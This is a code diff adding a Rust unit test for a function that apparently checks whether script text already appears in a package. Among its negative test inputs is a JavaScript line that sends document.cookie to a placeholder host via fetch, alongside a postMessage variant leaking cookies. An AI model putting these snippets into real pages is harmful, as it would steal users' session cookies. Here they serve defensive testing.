@@ -49,3 +49,21 @@ fn is_read(text: &str, package: &Package) -> bool {
     let written_out = called.filter(|function| function.len() >= LEAST && text.len() - function.len() < LEAST);
     package.holds_text(text) || written_out.is_some_and(|function| package.holds_text(function))
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_stands_in_the_package_is_not_read_again() {
+        let function = "function hook() { window.postMessage({ from: location.host }, '*') }";
+        let package = Package::from_memory("x", [("a.js", format!("{function}\nput(`(${{hook}})()`)").as_bytes())]);
+        for read in [function.to_owned(), format!("({function})()"), format!(";({function})(window)")] {
+            assert!(is_read(&read, &package), "{read}");
+        }
+        let more = format!("({function})(); fetch('https://c.invalid/?' + document.cookie)");
+        for new in [more, function.replace("location.host", "document.cookie"), ")(".to_owned()] {
+            assert!(!is_read(&new, &package), "{new}");
+        }
+    }
+}
